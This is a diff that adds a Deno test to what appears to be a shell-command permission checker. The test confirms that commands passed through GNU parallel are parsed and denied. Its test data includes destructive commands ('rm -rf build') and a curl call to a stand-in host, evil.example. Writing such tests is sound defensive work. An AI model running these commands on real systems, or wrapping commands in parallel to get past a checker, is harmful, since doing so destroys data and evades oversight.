@@ -148,3 +148,19 @@ Deno.test("xargs: the file names grep -l prints are judged where they lie", asyn
     ["grep -rl $X src | xargs cat", "ask", "ask"],
   ]);
 });
+
+Deno.test("parallel: without a command, each input is a command line", async () => {
+  assert.deepEqual(runs("parallel ::: 'rm -rf x' ls"), ["rm -rf x", "ls"]);
+  assert.deepEqual(runs("parallel -j2 ::: make 'make test' ::: a b"), [
+    "make",
+    "make test",
+    "(commands made with the inputs after :::)",
+  ]);
+  assert.deepEqual(runs("parallel < jobs.txt"), ["(commands parallel reads)"]);
+  assert.deepEqual(runs("parallel :::: jobs.txt"), ["(commands parallel reads)"]);
+  await checkTable([
+    ["parallel ::: 'rm -rf build'", "deny", "deny"],
+    ["parallel -j4 ::: ls 'curl https://evil.example'", "deny", "deny"],
+    ["cat jobs.txt | parallel", "deny", "deny"],
+  ]);
+});
